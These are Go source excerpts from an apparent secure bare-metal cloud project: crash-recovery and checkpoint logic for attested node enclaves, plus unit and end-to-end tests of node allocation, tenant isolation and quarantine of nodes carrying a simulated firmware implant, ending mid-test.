	add := func(list *[]string, node string) {
		mu.Lock()
		*list = append(*list, e.Project+"/"+node)
		mu.Unlock()
	}

	names := make([]string, 0, len(re.nodes))
	for n := range re.nodes {
		names = append(names, n)
	}
	sort.Strings(names)

	for _, name := range names {
		rn := re.nodes[name]
		switch rn.state {
		case StateQuarantined, StateRejected:
			// Distrust is restored verbatim: park the node in the
			// provider's rejected project and reinstate its state, no
			// quote involved.
			e.lc.restore(name, rn.state)
			m.cloud.MarkRejected(e.Project, name, "restored at recovery: "+rn.detail)
			e.journal.record(EvRecovered, name, "restored "+string(rn.state))
			add(&rep.Quarantined, name)
		case StateAllocated, StateWarm:
			name, rn := name, rn
			wg.Add(1)
			sem <- struct{}{}
			go func() {
				defer wg.Done()
				defer func() { <-sem }()
				if rn.state == StateAllocated {
					if err := m.readoptMember(ctx, e, name, rn.image); err != nil {
						add(&rep.Rejected, name)
						return
					}
				} else {
					if err := m.readoptWarm(ctx, e, name); err != nil {
						add(&rep.Rejected, name)
						return
					}
				}
				add(&rep.Readopted, name)
			}()
		default:
			// Mid-pipeline at the crash: the operation driving it is now
			// interrupted; in the fresh cloud the node is already free —
			// journal the release so the audit trail says where it went.
			e.journal.record(EvReleased, name, "released at recovery: interrupted mid-"+string(rn.state))
			add(&rep.Released, name)
		}
	}
	wg.Wait()
}

// readoptMember re-adopts one recorded Allocated member: reserve the same
// named node, then run the full cold pipeline — airlock, boot, fresh-nonce
// attest, provision, admit. The recorded state only nominates the node;
// membership is earned again by the quote.
func (m *Manager) readoptMember(ctx context.Context, e *Enclave, name, image string) error {
	if image == "" {
		e.journal.record(EvReleased, name, "released at recovery: no image recorded")
		return fmt.Errorf("core: node %s has no recorded image", name)
	}
	boot, err := e.cloud.BMI.ExtractBootInfo(ctx, image)
	if err != nil {
		e.journal.record(EvReleased, name, "released at recovery: image "+image+": "+err.Error())
		return err
	}
	if err := e.cloud.HIL.AllocateNode(ctx, e.Project, name); err != nil {
		e.journal.record(EvReleased, name, "released at recovery: "+err.Error())
		return err
	}
	e.journal.record(EvAllocated, name, "readopt image="+image)
	if _, _, fail := e.provisionOne(ctx, name, boot); fail != nil {
		return fail.Err
	}
	e.journal.record(EvRecovered, name, "readopted member image="+image)
	return nil
}

// readoptWarm re-adopts one recorded Warm standby: reserve the same named
// node, drive it through the warm pipeline (airlock, boot, pre-attest with
// a fresh nonce), and park it back in the pool. Without a pool (policy was
// detached before the crash) the node stays free.
func (m *Manager) readoptWarm(ctx context.Context, e *Enclave, name string) error {
	pool := e.warmPool()
	if pool == nil {
		e.journal.record(EvReleased, name, "released at recovery: no warm pool")
		return fmt.Errorf("core: enclave %s has no warm pool for standby %s", e.Project, name)
	}
	if err := e.cloud.HIL.AllocateNode(ctx, e.Project, name); err != nil {
		e.journal.record(EvReleased, name, "released at recovery: "+err.Error())
		return err
	}
	e.journal.record(EvAllocated, name, "warm readopt")
	wn, err := e.warmOne(ctx, name)
	if err != nil {
		e.rejectNode(name, PhaseWarmRefill, err)
		return err
	}
	if !pool.park(wn) {
		e.releaseWarmNode(name, "pool closed during recovery")
		return fmt.Errorf("core: pool closed during recovery")
	}
	e.journal.record(EvRecovered, name, "readopted warm standby")
	return nil
}

// restoreIncident rebuilds an Incident from its last recorded status.
func restoreIncident(st IncidentStatus, onUpdate func(*Incident)) *Incident {
	var n int
	fmt.Sscanf(st.ID, "inc-%d", &n)
	inc := &Incident{
		ID:       st.ID,
		Enclave:  st.Enclave,
		Node:     st.Node,
		Reason:   st.Reason,
		Opened:   st.Opened,
		seq:      n,
		onUpdate: onUpdate,
		done:     make(chan struct{}),
		state:    st.State,
		steps:    append([]IncidentStep(nil), st.Steps...),
		closed:   st.Closed,
	}
	if st.State.Terminal() {
		close(inc.done)
	}
	return inc
}

// RecoveredGuardPolicies returns the raw guard policies recovered from the
// store for enclaves that do not currently have a guard attached. The
// guard package (which core cannot import) uses this to re-enable guards
// after Recover.
func (m *Manager) RecoveredGuardPolicies() map[string]json.RawMessage {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make(map[string]json.RawMessage)
	for name, p := range m.guardPolicies {
		if _, attached := m.guards[name]; !attached {
			out[name] = append(json.RawMessage(nil), p...)
		}
	}
	return out
}

// Checkpoint writes a compacting snapshot of the full control-plane state
// and truncates the WAL. boltedd calls it on graceful shutdown so the next
// start replays a short tail instead of the full history.
func (m *Manager) Checkpoint() error {
	snap := managerSnapshot{
		Quotas:   make(map[string]TenantQuota),
		Idem:     make(map[string]string),
		RevFeeds: make(map[string]revFeedSnapshot),
	}

	for _, name := range m.ListEnclaves() {
		e, err := m.Enclave(name)
		if err != nil {
			continue
		}
		es := enclaveSnapshot{Name: name, Profile: e.Profile}
		for _, ev := range e.journal.Events() {
			es.Events = append(es.Events, toEventRecord(ev))
		}
		_, es.WatchSeq = e.journal.seqs()
		if st, ok := e.PoolStats(); ok {
			p := st.Policy
			es.Pool = &p
		}
		m.mu.Lock()
		if g, ok := m.guardPolicies[name]; ok {
			es.Guard = append(json.RawMessage(nil), g...)
		}
		m.mu.Unlock()
		snap.Enclaves = append(snap.Enclaves, es)
	}

	m.mu.Lock()
	for t, q := range m.quotas {
		snap.Quotas[t] = q
	}
	snap.OpSeq = m.opSeq
	for k, id := range m.idem {
		snap.Idem[k] = id
	}
	ops := make([]*Operation, 0, len(m.ops))
	for _, op := range m.ops {
		ops = append(ops, op)
	}
	sort.Slice(ops, func(i, j int) bool { return ops[i].seq < ops[j].seq })
	snap.IncSeq = m.incSeq
	snap.IncFeed = append([]IncidentStatus(nil), m.incFeed...)
	snap.IncFeedBase = m.incFeedBase
	incs := append([]*Incident(nil), m.incOrder...)
	for name, f := range m.revFeeds {
		snap.RevFeeds[name] = revFeedSnapshot{
			Base:   f.base,
			Events: append([]keylime.RevocationEvent(nil), f.events...),
		}
	}
	m.mu.Unlock()

	for _, op := range ops {
		st := op.Status()
		os := opSnapshot{opStartedRecord: opStartedRecord{
			ID: op.ID, Enclave: op.Enclave, Image: op.Image, Count: op.Count, Created: op.Created,
		}}
		if st.Phase.Terminal() {
			os.Terminal = true
			os.Phase = st.Phase
			os.Finished = st.Finished
			if st.Err != nil {
				os.Error = st.Err.Error()
			}
		}
		snap.Ops = append(snap.Ops, os)
	}
	for _, inc := range incs {
		snap.Incidents = append(snap.Incidents, inc.Status())
	}

	raw, err := json.Marshal(snap)
	if err != nil {
		return fmt.Errorf("core: encode snapshot: %w", err)
	}
	return m.store.Compact(&store.Snapshot{Taken: time.Now(), State: raw})
}

// Close checkpoints the control plane and closes the store. The manager
// must not serve mutations afterwards.
func (m *Manager) Close() error {
	err := m.Checkpoint()
	if cerr := m.store.Close(); err == nil {
		err = cerr
	}
	return err
}
