package hil

import (
	"context"
	"errors"
	"net/http/httptest"
	"testing"
	"testing/quick"

	"bolted/internal/netsim"
)

// fakeBMC records power operations.
type fakeBMC struct {
	on     bool
	cycles int
}

func (b *fakeBMC) PowerOn() error    { b.on = true; return nil }
func (b *fakeBMC) PowerOff() error   { b.on = false; return nil }
func (b *fakeBMC) PowerCycle() error { b.on = true; b.cycles++; return nil }

func newHIL(t testing.TB, nodes int) (*Service, *netsim.Fabric, []*fakeBMC) {
	t.Helper()
	fabric, err := netsim.NewFabric(100, 199)
	if err != nil {
		t.Fatal(err)
	}
	s := New(fabric)
	var bmcs []*fakeBMC
	for i := 0; i < nodes; i++ {
		name := string(rune('a' + i))
		if _, err := fabric.AddPort("port-" + name); err != nil {
			t.Fatal(err)
		}
		b := &fakeBMC{}
		bmcs = append(bmcs, b)
		if err := s.RegisterNode("node-"+name, "port-"+name, b, map[string]string{"gen": "m620"}); err != nil {
			t.Fatal(err)
		}
	}
	return s, fabric, bmcs
}

func TestAllocationLifecycle(t *testing.T) {
	s, _, _ := newHIL(t, 3)
	if err := s.CreateProject("charlie"); err != nil {
		t.Fatal(err)
	}
	if free, _ := s.FreeNodes(); len(free) != 3 {
		t.Fatalf("free = %d, want 3", len(free))
	}
	if err := s.AllocateNode(context.Background(), "charlie", "node-a"); err != nil {
		t.Fatal(err)
	}
	owner, _ := s.NodeOwner("node-a")
	if owner != "charlie" {
		t.Fatalf("owner = %q", owner)
	}
	// Double allocation fails.
	s.CreateProject("bob")
	if err := s.AllocateNode(context.Background(), "bob", "node-a"); !errors.Is(err, ErrInUse) {
		t.Fatalf("double alloc: %v", err)
	}
	// Any-node allocation takes a free one.
	n, err := s.AllocateAnyNode(context.Background(), "bob")
	if err != nil || n == "node-a" {
		t.Fatalf("AllocateAnyNode = %q, %v", n, err)
	}
	if err := s.FreeNode(context.Background(), "charlie", "node-a"); err != nil {
		t.Fatal(err)
	}
	if owner, _ := s.NodeOwner("node-a"); owner != "" {
		t.Fatal("freed node still owned")
	}
}

func TestAuthorizationEnforced(t *testing.T) {
	s, _, _ := newHIL(t, 2)
	s.CreateProject("alice")
	s.CreateProject("mallory")
	s.AllocateNode(context.Background(), "alice", "node-a")
	s.CreateNetwork(context.Background(), "alice", "net")

	if err := s.ConnectNode(context.Background(), "mallory", "node-a", "net"); !errors.Is(err, ErrUnauthorized) {
		t.Fatalf("cross-project connect: %v", err)
	}
	if err := s.PowerCycle(context.Background(), "mallory", "node-a"); !errors.Is(err, ErrUnauthorized) {
		t.Fatalf("cross-project power: %v", err)
	}
	if err := s.FreeNode(context.Background(), "mallory", "node-a"); !errors.Is(err, ErrUnauthorized) {
		t.Fatalf("cross-project free: %v", err)
	}
}

func TestNetworkingIsolation(t *testing.T) {
	s, fabric, _ := newHIL(t, 3)
	s.CreateProject("a")
	s.CreateProject("b")
	s.AllocateNode(context.Background(), "a", "node-a")
	s.AllocateNode(context.Background(), "a", "node-b")
	s.AllocateNode(context.Background(), "b", "node-c")
	s.CreateNetwork(context.Background(), "a", "enclave")
	s.CreateNetwork(context.Background(), "b", "enclave") // same name, different project: distinct VLANs
	if err := s.ConnectNode(context.Background(), "a", "node-a", "enclave"); err != nil {
		t.Fatal(err)
	}
	if err := s.ConnectNode(context.Background(), "a", "node-b", "enclave"); err != nil {
		t.Fatal(err)
	}
	if err := s.ConnectNode(context.Background(), "b", "node-c", "enclave"); err != nil {
		t.Fatal(err)
	}
	if !fabric.Reachable("port-a", "port-b") {
		t.Fatal("same-enclave nodes isolated")
	}
	if fabric.Reachable("port-a", "port-c") {
		t.Fatal("cross-tenant nodes reachable despite same network name")
	}
}

func TestFreeNodeQuarantinesAndPowersOff(t *testing.T) {
	s, fabric, bmcs := newHIL(t, 2)
	s.CreateProject("t")
	s.AllocateNode(context.Background(), "t", "node-a")
	s.CreateNetwork(context.Background(), "t", "n")
	s.ConnectNode(context.Background(), "t", "node-a", "n")
	bmcs[0].on = true
	if err := s.FreeNode(context.Background(), "t", "node-a"); err != nil {
		t.Fatal(err)
	}
	vs, _ := fabric.VLANsOf("port-a")
	if len(vs) != 0 {
		t.Fatal("freed node still attached to VLANs")
	}
	if bmcs[0].on {
		t.Fatal("freed node still powered")
	}
}

func TestPublicNetworks(t *testing.T) {
	s, fabric, _ := newHIL(t, 2)
	if err := s.CreatePublicNetwork("provisioning", true); err != nil {
		t.Fatal(err)
	}
	if err := s.CreatePublicNetwork("provisioning", true); err == nil {
		t.Fatal("duplicate public network accepted")
	}
	fabric.AddPort("bmi-host")
	if err := s.ConnectServicePort("bmi-host", "provisioning"); err != nil {
		t.Fatal(err)
	}
	s.CreateProject("t")
	s.AllocateNode(context.Background(), "t", "node-a")
	s.AllocateNode(context.Background(), "t", "node-b")
	if err := s.ConnectNode(context.Background(), "t", "node-a", "provisioning"); err != nil {
		t.Fatal(err)
	}
	if err := s.ConnectNode(context.Background(), "t", "node-b", "provisioning"); err != nil {
		t.Fatal(err)
	}
	if !fabric.Reachable("port-a", "bmi-host") {
		t.Fatal("node cannot reach provisioning service over public network")
	}
	// Private-VLAN semantics: two host members of the isolated public
	// network do not see each other.
	if fabric.Reachable("port-a", "port-b") {
		t.Fatal("nodes reach each other through the isolated service network")
	}
}

func TestNonIsolatedPublicNetwork(t *testing.T) {
	s, fabric, _ := newHIL(t, 2)
	if err := s.CreatePublicNetwork("internet", false); err != nil {
		t.Fatal(err)
	}
	s.CreateProject("t")
	s.AllocateNode(context.Background(), "t", "node-a")
	s.AllocateNode(context.Background(), "t", "node-b")
	s.ConnectNode(context.Background(), "t", "node-a", "internet")
	s.ConnectNode(context.Background(), "t", "node-b", "internet")
	if !fabric.Reachable("port-a", "port-b") {
		t.Fatal("members of a non-isolated public network should reach each other")
	}
}

func TestMetadataSourceOfTruth(t *testing.T) {
	s, _, _ := newHIL(t, 1)
	if err := s.SetNodeMetadata("node-a", "tpm_ek", "04deadbeef"); err != nil {
		t.Fatal(err)
	}
	md, err := s.NodeMetadata("node-a")
	if err != nil {
		t.Fatal(err)
	}
	if md["tpm_ek"] != "04deadbeef" || md["gen"] != "m620" {
		t.Fatalf("metadata = %v", md)
	}
	// Returned map is a copy: mutating it does not poison the source.
	md["tpm_ek"] = "spoofed"
	md2, _ := s.NodeMetadata("node-a")
	if md2["tpm_ek"] != "04deadbeef" {
		t.Fatal("metadata mutated through returned copy")
	}
	if err := s.SetNodeMetadata("ghost", "k", "v"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("metadata on unknown node: %v", err)
	}
}

func TestBMCProxy(t *testing.T) {
	s, _, bmcs := newHIL(t, 1)
	s.CreateProject("t")
	s.AllocateNode(context.Background(), "t", "node-a")
	if err := s.PowerOn(context.Background(), "t", "node-a"); err != nil {
		t.Fatal(err)
	}
	if !bmcs[0].on {
		t.Fatal("PowerOn not forwarded")
	}
	s.PowerCycle(context.Background(), "t", "node-a")
	if bmcs[0].cycles != 1 {
		t.Fatal("PowerCycle not forwarded")
	}
	s.PowerOff(context.Background(), "t", "node-a")
	if bmcs[0].on {
		t.Fatal("PowerOff not forwarded")
	}
}

func TestProjectDeletion(t *testing.T) {
	s, _, _ := newHIL(t, 1)
	s.CreateProject("t")
	s.AllocateNode(context.Background(), "t", "node-a")
	if err := s.DeleteProject("t"); !errors.Is(err, ErrInUse) {
		t.Fatalf("deleting project with nodes: %v", err)
	}
	s.FreeNode(context.Background(), "t", "node-a")
	if err := s.DeleteProject("t"); err != nil {
		t.Fatal(err)
	}
	if err := s.CreateProject("t"); err != nil {
		t.Fatal("name not reusable after delete")
	}
}

func TestDeleteNetworkInUse(t *testing.T) {
	s, _, _ := newHIL(t, 1)
	s.CreateProject("t")
	s.AllocateNode(context.Background(), "t", "node-a")
	s.CreateNetwork(context.Background(), "t", "n")
	s.ConnectNode(context.Background(), "t", "node-a", "n")
	if err := s.DeleteNetwork(context.Background(), "t", "n"); !errors.Is(err, ErrInUse) {
		t.Fatalf("deleting network with members: %v", err)
	}
	s.DetachNode(context.Background(), "t", "node-a", "n")
	if err := s.DeleteNetwork(context.Background(), "t", "n"); err != nil {
		t.Fatal(err)
	}
}

// Property: under arbitrary allocate/free interleavings, every node is
// owned by at most one project and the free list is exactly the
// unowned set.
func TestQuickOwnershipInvariant(t *testing.T) {
	s, _, _ := newHIL(t, 6)
	projects := []string{"p0", "p1", "p2"}
	for _, p := range projects {
		s.CreateProject(p)
	}
	nodes := []string{"node-a", "node-b", "node-c", "node-d", "node-e", "node-f"}
	f := func(ops []uint16) bool {
		for _, op := range ops {
			p := projects[int(op)%len(projects)]
			n := nodes[int(op>>4)%len(nodes)]
			if op&0x8000 == 0 {
				_ = s.AllocateNode(context.Background(), p, n)
			} else {
				_ = s.FreeNode(context.Background(), p, n)
			}
		}
		owned := make(map[string]string)
		for _, p := range projects {
			ns, err := s.ProjectNodes(p)
			if err != nil {
				return false
			}
			for _, n := range ns {
				if prev, dup := owned[n]; dup {
					t.Logf("node %s in both %s and %s", n, prev, p)
					return false
				}
				owned[n] = p
				if got, _ := s.NodeOwner(n); got != p {
					return false
				}
			}
		}
		free, _ := s.FreeNodes()
		for _, f := range free {
			if _, bad := owned[f]; bad {
				return false
			}
		}
		return len(owned)+len(free) == len(nodes)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}

func TestHTTPAPI(t *testing.T) {
	s, fabric, bmcs := newHIL(t, 2)
	srv := httptest.NewServer(NewHandler(s))
	defer srv.Close()
	c := NewClient(srv.URL)

	if err := c.CreateProject("web"); err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	free, err := c.FreeNodes()
	if err != nil || len(free) != 2 {
		t.Fatalf("FreeNodes = %v, %v", free, err)
	}
	node, err := c.AllocateAnyNode(ctx, "web")
	if err != nil {
		t.Fatal(err)
	}
	if err := c.CreateNetwork(ctx, "web", "enclave"); err != nil {
		t.Fatal(err)
	}
	if err := c.ConnectNode(ctx, "web", node, "enclave"); err != nil {
		t.Fatal(err)
	}
	port, _ := s.NodePort(node)
	if got, err := c.NodePort(node); err != nil || got != port {
		t.Fatalf("NodePort over HTTP = %q, %v, want %q", got, err, port)
	}
	if owner, err := c.NodeOwner(node); err != nil || owner != "web" {
		t.Fatalf("NodeOwner over HTTP = %q, %v", owner, err)
	}
	vs, _ := fabric.VLANsOf(port)
	if len(vs) != 1 {
		t.Fatalf("node on %d VLANs, want 1", len(vs))
	}
	if err := c.Power(ctx, "web", node, "cycle"); err != nil {
		t.Fatal(err)
	}
	idx := int(node[len(node)-1] - 'a')
	if bmcs[idx].cycles != 1 {
		t.Fatal("power cycle not forwarded over HTTP")
	}
	md, err := c.NodeMetadata(node)
	if err != nil || md["gen"] != "m620" {
		t.Fatalf("metadata over HTTP = %v, %v", md, err)
	}
	// Error mapping: remote callers must see the same sentinel errors
	// as in-process callers, not flat strings.
	if err := c.CreateProject("web"); err == nil {
		t.Fatal("duplicate project over HTTP accepted")
	}
	if _, err := c.NodeMetadata("ghost"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("unknown node over HTTP = %v, want ErrNotFound", err)
	}
	if err := c.AllocateNode(ctx, "web", node); !errors.Is(err, ErrInUse) {
		t.Fatalf("double allocation over HTTP = %v, want ErrInUse", err)
	}
	if err := c.CreateProject("intruder"); err != nil {
		t.Fatal(err)
	}
	if err := c.FreeNode(ctx, "intruder", node); !errors.Is(err, ErrUnauthorized) {
		t.Fatalf("foreign free over HTTP = %v, want ErrUnauthorized", err)
	}
	if err := c.Power(ctx, "web", node, "explode"); err == nil {
		t.Fatal("bad power op accepted")
	}
	if err := c.DetachNode(ctx, "web", node, "enclave"); err != nil {
		t.Fatal(err)
	}
	if err := c.DeleteNetwork(ctx, "web", "enclave"); err != nil {
		t.Fatal(err)
	}
	if err := c.FreeNode(ctx, "web", node); err != nil {
		t.Fatal(err)
	}
	// Admin + quarantine surface over the wire.
	if _, err := fabric.AddPort("port-x"); err != nil {
		t.Fatal(err)
	}
	if err := c.RegisterNode("node-x", "port-x", map[string]string{"gen": "m620"}); err != nil {
		t.Fatal(err)
	}
	if md, err := c.NodeMetadata("node-x"); err != nil || md["gen"] != "m620" {
		t.Fatalf("registered node metadata = %v, %v", md, err)
	}
	if err := c.AllocateNode(ctx, "web", "node-x"); err != nil {
		t.Fatal(err)
	}
	if err := c.TransferNode(ctx, "web", "node-x", "intruder"); err != nil {
		t.Fatal(err)
	}
	if owner, _ := c.NodeOwner("node-x"); owner != "intruder" {
		t.Fatalf("owner after remote transfer = %q", owner)
	}
}

func TestTransferNodeQuarantinePath(t *testing.T) {
	s, fabric, bmcs := newHIL(t, 2)
	for _, p := range []string{"tenant", "quarantine"} {
		if err := s.CreateProject(p); err != nil {
			t.Fatal(err)
		}
	}
	ctx := context.Background()
	if err := s.AllocateNode(ctx, "tenant", "node-a"); err != nil {
		t.Fatal(err)
	}
	s.CreateNetwork(ctx, "tenant", "airlock")
	s.ConnectNode(ctx, "tenant", "node-a", "airlock")
	bmcs[0].on = true

	if err := s.TransferNode(ctx, "tenant", "node-a", "quarantine"); err != nil {
		t.Fatal(err)
	}
	// The node never transits the free pool: it is owned by the target
	// project, off every network, and powered down.
	if owner, _ := s.NodeOwner("node-a"); owner != "quarantine" {
		t.Fatalf("owner = %q", owner)
	}
	if vlans, _ := fabric.VLANsOf("port-a"); len(vlans) != 0 {
		t.Fatalf("transferred node still on VLANs %v", vlans)
	}
	if bmcs[0].on {
		t.Fatal("transferred node still powered")
	}
	// Errors: not owned by the source project, unknown target.
	if err := s.TransferNode(ctx, "tenant", "node-a", "quarantine"); !errors.Is(err, ErrUnauthorized) {
		t.Fatalf("re-transfer = %v", err)
	}
	if err := s.TransferNode(ctx, "quarantine", "node-a", "ghost"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("unknown target = %v", err)
	}
}

func TestAllocateAnyNodeConcurrentNoDuplicates(t *testing.T) {
	const nodes = 12
	s, _, _ := newHIL(t, nodes)
	projects := []string{"p0", "p1", "p2"}
	for _, p := range projects {
		if err := s.CreateProject(p); err != nil {
			t.Fatal(err)
		}
	}
	// 3 projects race for 12 nodes, 4 each: every allocation must
	// succeed (capacity suffices) and no node may be handed out twice.
	got := make(chan string, nodes)
	errc := make(chan error, nodes)
	for _, p := range projects {
		p := p
		go func() {
			for i := 0; i < nodes/len(projects); i++ {
				n, err := s.AllocateAnyNode(context.Background(), p)
				if err != nil {
					errc <- err
					return
				}
				got <- n
			}
			errc <- nil
		}()
	}
	for range projects {
		if err := <-errc; err != nil {
			t.Fatalf("spurious allocation failure: %v", err)
		}
	}
	close(got)
	seen := make(map[string]bool)
	for n := range got {
		if seen[n] {
			t.Fatalf("node %s allocated twice", n)
		}
		seen[n] = true
	}
	if len(seen) != nodes {
		t.Fatalf("allocated %d of %d", len(seen), nodes)
	}
}
