package remote

import (
	"bytes"
	"context"
	"errors"
	"net/http/httptest"
	"strings"
	"testing"

	"bolted/internal/blockdev"
	"bolted/internal/bmi"
	"bolted/internal/core"
	"bolted/internal/firmware"
	"bolted/internal/hil"
)

func testSpec() bmi.OSImageSpec {
	return bmi.OSImageSpec{
		KernelID: "linux-4.17",
		Kernel:   []byte("vmlinuz-4.17"),
		Initrd:   []byte("initramfs-4.17"),
		Cmdline:  "root=iscsi ima_policy=tcb",
		RootFS:   bytes.Repeat([]byte("fs"), 4096),
	}
}

// startServer wires a fully in-process cloud, seeds an OS image, and
// serves its complete service plane the way cmd/boltedd does.
func startServer(t *testing.T, nodes int) (*core.Cloud, string) {
	t.Helper()
	cfg := core.DefaultConfig()
	cfg.Nodes = nodes
	cloud, err := core.NewCloud(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cloud.BMI.CreateOSImage("fedora28", testSpec()); err != nil {
		t.Fatal(err)
	}
	handler, err := NewHandler(cloud)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(handler)
	t.Cleanup(srv.Close)
	return cloud, srv.URL
}

// journalLines flattens a node's lifecycle trail to "kind detail"
// strings, the transport-independent part of an Event.
func journalLines(j *core.Journal, node string) []string {
	var out []string
	for _, ev := range j.ByNode(node) {
		out = append(out, string(ev.Kind)+" "+ev.Detail)
	}
	return out
}

// TestEndToEndBatchOverWire is the acceptance test for the transport-
// agnostic service plane: a multi-node batch provisioned via Dial
// against a full-surface boltedd must produce the same BatchResult and
// the same per-node lifecycle journal as the identical batch run
// against in-process services.
func TestEndToEndBatchOverWire(t *testing.T) {
	const nodes, batch = 5, 3
	for _, profile := range []core.Profile{core.ProfileBob, core.ProfileCharlie} {
		t.Run(profile.Name, func(t *testing.T) {
			serverCloud, url := startServer(t, nodes)
			remoteCloud, err := Dial(url)
			if err != nil {
				t.Fatal(err)
			}
			if !remoteCloud.Remote() || remoteCloud.LocalHIL() != nil || remoteCloud.LocalBMI() != nil || remoteCloud.LocalRegistrar() != nil {
				t.Fatal("dialled cloud still holds in-process services")
			}
			if remoteCloud.Config.Nodes != nodes || remoteCloud.Config.Firmware != core.FirmwareLinuxBoot {
				t.Fatalf("server info not propagated: %+v", remoteCloud.Config)
			}

			remoteEnclave, err := core.NewEnclave(remoteCloud, "tenant", profile)
			if err != nil {
				t.Fatal(err)
			}
			res, err := remoteEnclave.AcquireNodes(context.Background(), "fedora28", batch)
			if err != nil {
				t.Fatal(err)
			}
			if len(res.Nodes) != batch || len(res.Failed) != 0 || len(res.Aborted) != 0 {
				t.Fatalf("remote batch = %d nodes, %d failed, %d aborted", len(res.Nodes), len(res.Failed), len(res.Aborted))
			}

			// The same batch against an identical in-process cloud must
			// journal the identical lifecycle, transition for transition.
			localCloud, err := core.NewCloud(core.CloudConfig{
				Nodes: nodes, Firmware: core.FirmwareLinuxBoot,
				HeadsSource: core.DefaultConfig().HeadsSource,
				OSDs:        3, Replication: 2, SpindlesPerO: 9, PlatformGen: "m620",
			})
			if err != nil {
				t.Fatal(err)
			}
			if _, err := localCloud.BMI.CreateOSImage("fedora28", testSpec()); err != nil {
				t.Fatal(err)
			}
			localEnclave, err := core.NewEnclave(localCloud, "tenant", profile)
			if err != nil {
				t.Fatal(err)
			}
			localRes, err := localEnclave.AcquireNodes(context.Background(), "fedora28", batch)
			if err != nil {
				t.Fatal(err)
			}
			if len(localRes.Nodes) != len(res.Nodes) {
				t.Fatalf("local batch %d nodes, remote %d", len(localRes.Nodes), len(res.Nodes))
			}
			for i, n := range res.Nodes {
				if n.Name != localRes.Nodes[i].Name {
					t.Fatalf("member %d: remote %s, local %s", i, n.Name, localRes.Nodes[i].Name)
				}
				remoteTrail := journalLines(remoteEnclave.Journal(), n.Name)
				localTrail := journalLines(localEnclave.Journal(), n.Name)
				if strings.Join(remoteTrail, "\n") != strings.Join(localTrail, "\n") {
					t.Fatalf("node %s journal diverges over the wire:\nremote:\n  %s\nlocal:\n  %s",
						n.Name, strings.Join(remoteTrail, "\n  "), strings.Join(localTrail, "\n  "))
				}
			}

			// The provider's source of truth saw the allocation.
			free, err := serverCloud.HIL.FreeNodes()
			if err != nil {
				t.Fatal(err)
			}
			if len(free) != nodes-batch {
				t.Fatalf("server free pool = %d, want %d", len(free), nodes-batch)
			}
			for _, n := range res.Nodes {
				owner, err := remoteCloud.HIL.NodeOwner(n.Name)
				if err != nil || owner != "tenant" {
					t.Fatalf("owner of %s over the wire = %q, %v", n.Name, owner, err)
				}
				if n.Machine != nil {
					t.Fatal("remote member exposes a machine handle")
				}
			}

			// Enclave data path across the wire-built membership.
			reply, err := remoteEnclave.Send(res.Nodes[0].Name, res.Nodes[1].Name, []byte("ping"))
			if err != nil || string(reply) != "ping" {
				t.Fatalf("Send over remote enclave = %q, %v", reply, err)
			}

			// The node's data volume is remote block storage: writes made
			// through the tenant's stack (LUKS for Charlie) must land on
			// the server.
			data := bytes.Repeat([]byte{7}, blockdev.SectorSize)
			if err := res.Nodes[0].Disk.WriteSectors(data, 3); err != nil {
				t.Fatal(err)
			}
			back := make([]byte, blockdev.SectorSize)
			if err := res.Nodes[0].Disk.ReadSectors(back, 3); err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(back, data) {
				t.Fatal("remote volume write did not read back")
			}

			// Release over the wire, preserving state as a server-side
			// image.
			released := res.Nodes[0]
			if err := remoteEnclave.ReleaseNode(released.Name, "postrun"); err != nil {
				t.Fatal(err)
			}
			if _, err := serverCloud.BMI.GetImage("postrun"); err != nil {
				t.Fatalf("saved image missing on server: %v", err)
			}
			// The released node's agent died with it: its remote API must
			// be gone, not left serving the previous tenant's state.
			if _, err := released.Agent.Quote([]byte{1, 2, 3, 4}, []int{0}, core.PortVerifier); err == nil {
				t.Fatal("released node's agent API still answers quotes")
			}
			free, _ = serverCloud.HIL.FreeNodes()
			if len(free) != nodes-batch+1 {
				t.Fatalf("free pool after remote release = %d", len(free))
			}
		})
	}
}

// TestRemoteRejectionQuarantine proves failure isolation works across
// the wire: a node whose flash firmware was implanted server-side
// fails attestation and lands in the provider's rejected pool, while
// its batch siblings still allocate.
func TestRemoteRejectionQuarantine(t *testing.T) {
	serverCloud, url := startServer(t, 3)
	// The free pool is sorted, so node00 is part of any 2-node batch.
	m, err := serverCloud.Machine("node00")
	if err != nil {
		t.Fatal(err)
	}
	implant := firmware.BuildLinuxBoot("evil", []byte("firmware implant"))
	m.ReflashFirmware(firmware.NewLinuxBoot(implant, "m620"))

	remoteCloud, err := Dial(url)
	if err != nil {
		t.Fatal(err)
	}
	enclave, err := core.NewEnclave(remoteCloud, "tenant", core.ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	res, err := enclave.AcquireNodes(context.Background(), "fedora28", 2)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Nodes) != 1 || len(res.Failed) != 1 {
		t.Fatalf("batch = %d nodes, %d failed; want 1, 1", len(res.Nodes), len(res.Failed))
	}
	if res.Failed[0].Node != "node00" || res.Failed[0].Phase != core.PhaseAttest {
		t.Fatalf("failure = %+v, want node00 at %s", res.Failed[0], core.PhaseAttest)
	}
	owner, err := remoteCloud.HIL.NodeOwner("node00")
	if err != nil || owner != core.RejectedProject {
		t.Fatalf("implanted node owner = %q, %v; want rejected pool", owner, err)
	}
	// The tenant-side quarantine ledger recorded the reason.
	if _, ok := remoteCloud.Rejected()["node00"]; !ok {
		t.Fatal("rejection reason not recorded tenant-side")
	}
}

// TestRemoteErrorSemantics: reservation failures cross the wire with
// sentinel fidelity and roll back cleanly.
func TestRemoteErrorSemantics(t *testing.T) {
	serverCloud, url := startServer(t, 2)
	remoteCloud, err := Dial(url)
	if err != nil {
		t.Fatal(err)
	}
	enclave, err := core.NewEnclave(remoteCloud, "tenant", core.ProfileAlice)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := enclave.AcquireNodes(context.Background(), "fedora28", 3); !errors.Is(err, hil.ErrNotFound) {
		t.Fatalf("oversized batch = %v, want wrapped hil.ErrNotFound", err)
	}
	// The failed reservation left no trace server-side.
	free, _ := serverCloud.HIL.FreeNodes()
	if len(free) != 2 {
